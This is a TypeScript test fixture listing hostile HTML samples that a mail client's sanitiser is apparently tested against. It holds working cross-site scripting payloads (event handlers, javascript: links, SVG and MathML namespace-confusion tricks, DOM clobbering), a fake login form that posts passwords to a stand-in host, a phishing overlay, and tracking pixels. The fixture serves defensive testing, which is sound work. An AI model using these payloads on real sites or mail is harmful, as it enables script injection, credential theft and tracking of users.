/**
 * Letters that try to do harm in the reader's browser: what is known from lists of such tricks (OWASP, the tests of sanitisers), and what
 * mail brings in particular. Each begins with `<p>đầu</p>`, so that a test sees that it was shown; a trick that works sets `hit` on the
 * page, asks another place for something, or leads elsewhere.
 */
const HIT = 'top.hit=1;parent.hit=1;window.hit=1';
const ELSEWHERE = 'https://evil.example';

export const HOSTILE: readonly { name: string; html: string }[] = [
  { name: 'script', html: `<script>${HIT}</script><script src="${ELSEWHERE}/x.js"></script>` },
  {
    name: 'handlers',
    html: `<img src=x onerror="${HIT}"><body onload="${HIT}"><details open ontoggle="${HIT}">x</details><p onclick="${HIT}">x</p><input autofocus onfocus="${HIT}"><video src=x onerror="${HIT}"></video><marquee onstart="${HIT}">x</marquee>`,
  },
  {
    name: 'links',
    html: `<a href="javascript:${HIT}">x</a><a href="JaVa&#x09;Script:${HIT}">x</a><a href="data:text/html,<script>${HIT}</script>">x</a><a href="vbscript:x">x</a><map name=m><area href="javascript:${HIT}" shape=rect coords="0,0,9,9"></map>`,
  },
  {
    name: 'frames',
    html: `<iframe src="javascript:${HIT}"></iframe><iframe srcdoc="<script>${HIT}</script>"></iframe><object data="data:text/html,<script>${HIT}</script>"></object><embed src="${ELSEWHERE}/x.swf"><portal src="${ELSEWHERE}"></portal>`,
  },
  {
    name: 'svg',
    html: `<svg onload="${HIT}"><script>${HIT}</script><animate onbegin="${HIT}" attributeName=x dur=1s><a xlink:href="javascript:${HIT}"><text>x</text></a><foreignObject><iframe srcdoc="<script>${HIT}</script>"></iframe></foreignObject><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${HIT}</script></svg>#x"></use></svg>`,
  },
  {
    name: 'math',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;"></mglyph></table></mtext></math><math href="javascript:${HIT}">x</math>`,
  },
  {
    name: 'namespaces',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${HIT}"><noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript><svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
  },
  {
    name: 'forms',
    html: `<form action="${ELSEWHERE}/steal"><input name=password type=password><button>Đăng nhập</button></form><button formaction="javascript:${HIT}">x</button><isindex action="javascript:${HIT}">`,
  },
  {
    name: 'page',
    html: `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><base href="${ELSEWHERE}/"><link rel=stylesheet href="${ELSEWHERE}/x.css"><link rel=prefetch href="${ELSEWHERE}/p"><a href="/x">x</a>`,
  },
  {
    name: 'pictures',
    html: `<img src="${ELSEWHERE}/pixel.gif"><img srcset="${ELSEWHERE}/2x.gif 2x"><picture><source srcset="${ELSEWHERE}/s.gif"><img src="${ELSEWHERE}/t.gif"></picture><table background="${ELSEWHERE}/b.gif"><tr><td>x</td></tr></table><video poster="${ELSEWHERE}/p.gif"></video><audio src="${ELSEWHERE}/a.mp3" autoplay></audio><input type=image src="${ELSEWHERE}/i.gif"><image src="${ELSEWHERE}/im.gif">`,
  },
  {
    name: 'styles',
    html: `<style>@import url(${ELSEWHERE}/i.css);p{background:url(${ELSEWHERE}/c.gif)}@font-face{font-family:x;src:url(${ELSEWHERE}/f.woff)}p{font-family:x}</style><p style="background-image:url('${ELSEWHERE}/s.gif');behavior:url(x.htc);width:expression(${HIT})">x</p><div style="list-style:url(${ELSEWHERE}/l.gif);cursor:url(${ELSEWHERE}/k.cur),auto">x</div>`,
  },
  {
    name: 'covering',
    html: `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Phiên làm việc đã hết. <a href="${ELSEWHERE}">Đăng nhập lại</a></div>`,
  },
  {
    name: 'clobbering',
    html: `<form id=attributes><input name=removeChild></form><img name=body><a id=location href="${ELSEWHERE}"></a><form name=documentElement></form><input id=hit><a id=defaultView></a>`,
  },
  {
    name: 'opening',
    html: `<a href="${ELSEWHERE}" target="_top">x</a><a href="${ELSEWHERE}" target="_self" ping="${ELSEWHERE}/ping">x</a><a href="/sign-out" target="_parent">x</a>`,
  },
  {
    name: 'unclosed',
    html: `<p title="><img src=x onerror=${HIT}><!--><script>${HIT}//--></script><textarea><title></textarea><img src=x onerror=${HIT}>`,
  },
];
